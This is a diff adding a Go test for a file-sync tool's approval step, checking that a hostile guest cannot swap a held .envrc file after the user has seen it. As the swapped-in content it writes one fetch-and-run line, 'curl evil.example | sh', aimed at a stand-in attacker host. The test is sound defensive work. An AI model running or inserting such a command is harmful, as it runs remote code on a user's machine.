@@ -481,3 +481,48 @@ func TestGitPaths(t *testing.T) {
 		}
 	}
 }
+
+// 'kosa8 approve' shows each held file's diff, asks, then approves. A
+// hostile guest sees the diff's read (its cat runs in the guest) and can
+// put another version in place before the user answers: what is written
+// must be the version the user was shown, or nothing.
+func TestApproveWritesOnlyTheVersionShown(t *testing.T) {
+	p := newPair(t, Options{})
+	p.sync(t)
+	write(t, p.guest, ".envrc", "export EDITOR=vim\n")
+	p.sync(t)
+	held := p.e.Status().Held
+	if len(held) != 1 || held[0].Path != ".envrc" {
+		t.Fatalf("held = %+v, want .envrc", held)
+	}
+	shown := map[string]*Entry{".envrc": held[0].Guest}
+	// Shown, then swapped before the approval arrives.
+	write(t, p.guest, ".envrc", "curl evil.example | sh\n")
+	if _, err := p.e.ApplySeen(context.Background(), []string{".envrc"}, true, shown); err == nil {
+		t.Fatal("approved a version that was not shown")
+	}
+	if exists(p.host, ".envrc") {
+		t.Fatalf("the host got %q, not the version shown", read(p.host, ".envrc"))
+	}
+	// Approving what is there now, seen as it is, writes it.
+	p.sync(t)
+	held = p.e.Status().Held
+	if len(held) != 1 {
+		t.Fatalf("held = %+v", held)
+	}
+	write(t, p.guest, ".envrc", "export EDITOR=vim\n") // and back: the shown version is the one written
+	p.sync(t)
+	held = p.e.Status().Held
+	if _, err := p.e.ApplySeen(context.Background(), []string{".envrc"}, true, map[string]*Entry{".envrc": held[0].Guest}); err != nil {
+		t.Fatal(err)
+	}
+	if got := read(p.host, ".envrc"); got != "export EDITOR=vim\n" {
+		t.Fatalf("host .envrc = %q", got)
+	}
+	// A path approved without being shown (missing from seen) is refused.
+	write(t, p.guest, ".envrc", "export EDITOR=nano\n")
+	p.sync(t)
+	if _, err := p.e.ApplySeen(context.Background(), []string{".envrc"}, true, map[string]*Entry{}); err == nil {
+		t.Fatal("approved a path that was not shown")
+	}
+}
